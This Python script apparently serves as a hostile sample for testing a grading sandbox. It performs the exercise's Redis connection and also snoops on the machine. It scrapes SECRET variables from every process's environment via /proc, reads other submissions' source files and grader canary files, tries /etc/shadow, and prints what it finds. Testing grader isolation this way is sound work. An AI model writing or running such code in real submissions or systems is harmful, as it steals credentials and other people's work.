"""A port that snoops: it connects as the exercise asks, and prints whatever it could
read of other ports (their copies and their originals), of the machine's secrets
(/etc/shadow, a root-only file) and of the environment of whoever runs the grader."""

import glob
import os

import redis

stolen = []
mine = os.path.realpath(os.getcwd())
sources = set()
for entry in os.listdir("/proc"):
    try:
        words = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace").split("\0")
        stolen += [
            f"environ: {item}"
            for item in open(f"/proc/{entry}/environ", "rb").read().decode().split("\0")
            if "SECRET" in item
        ]
    except OSError:
        continue
    if "--source" in words:
        sources.add(os.path.dirname(words[words.index("--source") + 1]))
candidates = glob.glob("/tmp/queuing-grader-*/**/*.py", recursive=True)
for folder in sources:
    candidates += glob.glob(f"{folder}/*/*.py")
for path in sorted(set(candidates)):
    if not os.path.realpath(path).startswith(mine):
        try:
            stolen.append(f"{path}: {open(path).readline().strip()}")
        except OSError:
            pass
for path in ["/etc/shadow", *glob.glob("/tmp/queuing-grader-canary-*")]:
    try:
        stolen.append(f"{path}: {open(path).read().strip()[:60]}")
    except OSError:
        pass
stolen += [f"env: {name}={value}" for name, value in os.environ.items() if "SECRET" in name]

client = redis.Redis.from_url(os.environ.get("REDIS_URL", "redis://localhost:6379"))
client.ping()
print("Redis client connected to the server")
for item in stolen[:20]:
    print(f"stolen: {item}")
